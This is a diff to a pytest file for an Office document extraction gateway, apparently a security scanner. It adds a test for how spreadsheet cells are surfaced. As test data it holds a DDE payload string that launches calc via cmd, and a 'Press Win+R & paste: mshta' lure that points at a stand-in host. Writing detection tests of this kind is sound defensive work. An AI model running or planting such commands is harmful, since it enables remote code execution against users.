@@ -2,12 +2,13 @@ from __future__ import annotations
 
 import pytest
 
-from gateway.extract.base import Child, Node, Problem
+from gateway.extract.base import Child, Context, Node, Problem
 from gateway.extract.office import ooxml
 from gateway.extract.office.flat import OFFICE_XML
 from gateway.extract.office.ooxml import OOXML, dde_call
 from gateway.model.artifact import Artifact, ArtifactKind
 from gateway.model.content import Observation, Table, Text
+from gateway.model.deadline import Limits
 from tests.builders.archives import codes, content, take_apart
 from tests.builders.documents import HARMLESS_MACRO, W, docx, field_runs, package, relations, vba_project
 from tests.builders.growth import linear
@@ -248,3 +249,14 @@ def test_broken_captions_hide_nothing() -> None:
     found = read(docx(more={"xl/drawings/vmlDrawing1.vml": CAPTION.format("<x:FmlaPict>cmd|'/c calc'!A0</x:FmlaPict>")}))
     assert "DOC-DDE" in codes(found)
     assert any(isinstance(item, Problem) for item in read(docx(more={"a.vml": CAPTION.format("<b>")})))
+
+
+@pytest.mark.parametrize(("cell", "outbound", "told"), [
+    ("Press Win+R &amp; paste: mshta https://h.example/a", False, True), ("Press Win+R &amp; paste: mshta https://h.example/a", True, False),
+    ("Sum of the quarter", False, False)])
+def test_cells_that_speak_of_commands(cell: str, outbound: bool, told: bool) -> None:
+    strings = f'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{cell}</t></si></sst>'
+    data = docx(more={"xl/sharedStrings.xml": strings}, links=(("sharedStrings", "/xl/sharedStrings.xml"),))
+    node = Node(Artifact(0, None, ArtifactKind.PART, ("a.xlsx",)), data, "application/vnd.openxmlformats")
+    found = list(OOXML.extract(node, Context(Limits(), outbound=outbound)))
+    assert [t.content.strip() for t in found if isinstance(t, Text) and t.source == "cells"] == (["Press Win+R & paste: mshta https://h.example/a"] if told else [])
